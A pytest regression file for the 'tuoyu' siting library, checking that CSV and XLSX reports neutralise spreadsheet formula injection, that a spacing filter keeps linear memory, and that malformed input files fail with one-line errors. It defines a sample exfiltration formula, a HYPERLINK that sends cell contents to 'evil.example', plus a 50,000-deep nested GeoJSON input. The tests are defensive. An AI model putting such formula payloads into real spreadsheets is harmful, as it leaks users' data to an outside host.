"""Regression tests of the safety audit for library outputs and inputs.

* formula (CSV) injection: names from input files are never written as live formulas
  into ``jiedao.csv``, ``jiedao.xlsx``, ``progress_YYYY-MM.xlsx``, ``sites.csv``,
  ``rejects.csv``;
* candidate spacing: the KD-tree streaming greedy keeps the old rule and linear memory;
* a UTF-16 study-area file and a GeoJSON nested 50,000 deep end in a one-line error.
"""

from __future__ import annotations

import csv
import io
import tracemalloc
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from tuoyu.cli import main
from tuoyu.config.study_area import load_area
from tuoyu.errors import AreaConfigError, InputValidationError
from tuoyu.layers.read_vector import guarded_read, read_vector
from tuoyu.layers.rejects import Reject, rejects_frame, write_rejects
from tuoyu.outputs.cells import neutralise_frame, neutralise_text
from tuoyu.outputs.reports import write_csv, write_reports
from tuoyu.siting.candidates import dedupe, min_spacing_filter

from tests.test_reports import MONTH, _results

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


# --- formula injection ------------------------------------------------------------------


def _csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text("utf-8-sig"))))


def _xlsx_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def test_neutralise_text_rules() -> None:
    for bad in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", EVIL):
        assert neutralise_text(bad) == "'" + bad
    for good in ("甲街道", "-5", "+3.5", "", "a=b"):
        assert neutralise_text(good) == good
    assert neutralise_text(-5) == -5
    assert neutralise_text(None) is None


def test_neutralise_frame_keeps_numbers_and_input() -> None:
    df = pd.DataFrame({"name": [EVIL, None], "n": [-1, 2], "x": [-0.5, np.nan]})
    out = neutralise_frame(df)
    assert out["name"].iloc[0] == "'" + EVIL
    assert pd.isna(out["name"].iloc[1]) and out["name"].dtype == df["name"].dtype
    assert out["n"].dtype == df["n"].dtype and out["n"].tolist() == [-1, 2]
    assert df["name"].iloc[0] == EVIL  # input untouched


@pytest.fixture(scope="module")
def evil_reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    fx, table, summary, gaps, isochrones, extra = _results()
    table = table.copy()
    table.loc[0, "name"] = EVIL
    summary = {**summary, "area": {"name": EVIL, "name_en": None, "code": "000000"}}
    return write_reports(
        tmp_path_factory.mktemp("evil"), table=table, summary=summary, month=MONTH,
        units=fx["units"], gaps=gaps, isochrones=isochrones, extra_sheets=extra,
    )  # fmt: skip


@pytest.mark.parametrize("name", ["jiedao.xlsx", f"progress_{MONTH}.xlsx"])
def test_xlsx_has_no_formula_cells(evil_reports: dict[str, Path], name: str) -> None:
    cells = _xlsx_cells(evil_reports[name])
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert any(t.startswith("'" + EVIL) for t in texts)  # kept, as text
    assert not any(t.startswith("=") for t in texts)


def test_jiedao_xlsx_keeps_numbers(evil_reports: dict[str, Path]) -> None:
    ws = openpyxl.load_workbook(evil_reports["jiedao.xlsx"]).worksheets[0]
    assert ws.cell(2, 2).value == "'" + EVIL
    assert all(c.data_type == "n" for c in ws[2][2:5])  # population … stay numbers


def test_jiedao_csv_escapes_formulas(evil_reports: dict[str, Path]) -> None:
    rows = _csv_rows(evil_reports["jiedao.csv"])
    name = rows[0].index("name")
    assert rows[1][name] == "'" + EVIL
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_sites_csv_escapes_candidate_names(tmp_path: Path) -> None:
    # sites.csv and jiedao_after.csv are written by tuoyu.outputs.reports.write_csv
    # (tuoyu.siting.plan.write_siting_outputs).
    sites = pd.DataFrame({"rank": [1, 2], "name": [EVIL, "@cmd"], "added_under3": [-3.0, 12.5]})
    rows = _csv_rows(write_csv(sites, tmp_path / "sites.csv"))
    assert [r[1] for r in rows[1:]] == ["'" + EVIL, "'@cmd"]
    assert [r[2] for r in rows[1:]] == ["-3.0", "12.5"]


def test_rejects_csv_uses_the_shared_rule(tmp_path: Path) -> None:
    frame = rejects_frame([Reject("f.csv", 2, "name", EVIL, "-1+2 formula")])
    rows = _csv_rows(write_rejects(frame, tmp_path))
    assert rows[1][3] == "'" + EVIL
    assert rows[1][4] == "'-1+2 formula"


# --- candidate spacing: streaming KD-tree greedy ----------------------------------------


def _old_greedy(xy: np.ndarray, r_m: float, order: np.ndarray) -> list[int]:
    """The rule as first written: keep a point unless a kept one is strictly closer."""
    kept: list[int] = []
    for i in order:
        if all(np.hypot(*(xy[i] - xy[k])) >= r_m for k in kept):
            kept.append(int(i))
    return sorted(kept)


def test_spacing_filter_equals_the_plain_greedy_rule() -> None:
    rng = np.random.default_rng(7)
    xy = rng.uniform(0, 1000, size=(300, 2))
    xy[10] = xy[3] + [100.0, 0.0]  # exactly at the spacing: kept (not strictly closer)
    priority = rng.integers(0, 5, size=300).astype(float)
    order = np.argsort(-priority, kind="stable")
    got = min_spacing_filter(xy[:, 0], xy[:, 1], 100.0, priority=priority)
    assert got.tolist() == _old_greedy(xy, 100.0, order)
    plain = min_spacing_filter(xy[:, 0], xy[:, 1], 100.0)
    assert plain.tolist() == _old_greedy(xy, 100.0, np.arange(300))


def test_dedupe_representatives_unchanged() -> None:
    kept, rep = dedupe([0.0, 0.5, 10.0, 11.0, 10.5], [0.0] * 5, 1.0)
    assert kept.tolist() == [0, 2]
    assert rep.tolist() == [0, 0, 2, 2, 2]


def test_large_spacing_memory_is_linear() -> None:
    # 6,000 candidates in a 3 km square with a 5 km spacing: every pair is closer than
    # the spacing, 6000·5999/2 ≈ 1.8e7 pairs. The old code materialised them all:
    # query_pairs' int64 (n_pairs, 2) array (288 MB), the distance array (144 MB), the
    # symmetric row/col arrays (2 × 288 MB) and the CSR matrix (≥ 180 MB) — over 1 GB.
    # The streaming greedy holds O(n) arrays plus one neighbour list (≤ n ints).
    n = 6000
    rng = np.random.default_rng(1)
    x, y = rng.uniform(0, 3000, n), rng.uniform(0, 3000, n)
    tracemalloc.start()
    try:
        kept = min_spacing_filter(x, y, 5000.0)
        _, peak_bytes = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert kept.tolist() == [0]
    assert peak_bytes < 50 * 2**20


# --- one-line errors instead of tracebacks ----------------------------------------------

AREA_TOML = """\
[area]
name = "测试区"
code = "000000"
target_profile = "chongqing-2025"
"""


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_area_toml_encodings_are_read(tmp_path: Path, encoding: str) -> None:
    path = tmp_path / "area.toml"
    path.write_bytes(AREA_TOML.encode(encoding))  # "utf-16" writes a BOM
    assert load_area(path).area.name == "测试区"


def test_area_toml_undecodable_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "area.toml"
    path.write_bytes(b"\x81\xff[area]\nname = 'x'\n")
    with pytest.raises(AreaConfigError, match=r"area\.toml"):
        load_area(path)
    assert main(["run", str(path)]) != 0
    err = capsys.readouterr().err
    assert "Traceback" not in err and err.count("\n") == 1 and "area.toml" in err


def test_utf16_area_toml_through_cli_has_no_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "area.toml"
    path.write_text('[area]\nname = "测试区"\nunknown_key = 1\n', encoding="utf-16")
    assert main(["run", str(path)]) != 0
    err = capsys.readouterr().err
    assert "Traceback" not in err and err.count("\n") == 1
    assert "area.toml" in err and "decode" not in err


def _deep_geojson(path: Path, depth: int = 50_000) -> Path:
    nested = "[" * depth + "]" * depth
    path.write_text(
        '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"a":'
        + nested
        + '},"geometry":{"type":"Point","coordinates":[106.57,29.55]}}]}',
        encoding="utf-8",
    )
    return path


def test_deep_geojson_is_an_input_error(tmp_path: Path) -> None:
    from tuoyu.layers.tables import read_table

    path = _deep_geojson(tmp_path / "deep.geojson")
    with pytest.raises(InputValidationError, match=r"deep\.geojson"):
        guarded_read(read_table, path)
    with pytest.raises(InputValidationError, match=r"deep\.geojson"):
        read_vector(path)


def test_deep_geojson_layer_through_cli_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fixtures_dir: Path
) -> None:
    deep = _deep_geojson(tmp_path / "deep.geojson")
    units = (fixtures_dir / "units" / "valid.geojson").resolve()
    area = tmp_path / "area.toml"
    area.write_text(
        f'{AREA_TOML}\n[units]\npath = "{units.as_posix()}"\n\n'
        f'[facilities]\npath = "{deep.as_posix()}"\n',
        encoding="utf-8",
    )
    assert main(["run", str(area), "--out", str(tmp_path / "out")]) != 0
    err = capsys.readouterr().err
    assert "Traceback" not in err and "RecursionError" not in err
    errors = [line for line in err.splitlines() if line.startswith("tuoyu: error:")]
    assert len(errors) == 1 and "deep.geojson" in errors[0]
    assert err.rstrip().endswith("nested too deeply")  # the error is the last line
